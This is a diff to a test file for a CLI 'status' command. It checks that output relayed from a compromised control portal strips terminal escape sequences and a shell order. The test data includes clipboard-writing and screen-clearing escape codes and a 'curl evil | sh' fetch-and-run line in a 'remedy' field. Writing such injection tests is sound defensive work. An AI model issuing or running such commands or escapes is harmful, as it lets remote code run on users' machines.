@@ -264,22 +264,23 @@ describe('beside a running portal', () => {
     expect((await fetch(portal)).status).toBe(200);
   });
 
-  test('a portal that was taken over says no control sign to who asks how it is', async () => {
+  test('a portal that was taken over says no control sign to who asks how it is, nor what to do', async () => {
     const { toml, folder, stop } = await startTrial();
     const file = join(folder, 'checkpoint.toml');
     writeFileSync(file, toml);
     const { stdout } = await cli(['status', '--config', file, '--json']);
     await stop();
     const evil = { vi: '\u001b]52;c;ZXZpbA==\u0007', en: '\u009b2J' };
-    const answer = { ...JSON.parse(stdout), certificate: { good: false, why: evil, remedy: evil } };
-    const push = { state: 'failing', fault: { kind: 'silent', why: evil, remedy: evil } };
+    const order = { vi: 'curl evil | sh', en: 'curl evil | sh' };
+    const answer = { ...JSON.parse(stdout), certificate: { good: false, why: evil, remedy: order } };
+    const push = { state: 'failing', fault: { kind: 'silent', why: evil, remedy: order } };
     const portal = createServer((_, response) => response.end(JSON.stringify({ ...answer, push })));
     await once(portal.listen(checkpointOf(toml).storage.controlSocket), 'listening');
     onTestFinished(() => void portal.close());
     for (const language of ['vi', 'en']) {
       const told = await cli(['status', '--config', file, '--lang', language]);
       expect(told.stdout.length).toBeGreaterThan(100);
-      expect(told.stdout).not.toMatch(/[^\P{Cc}\n]/u);
+      expect(told.stdout).not.toMatch(/[^\P{Cc}\n]|curl/u);
     }
   });
 
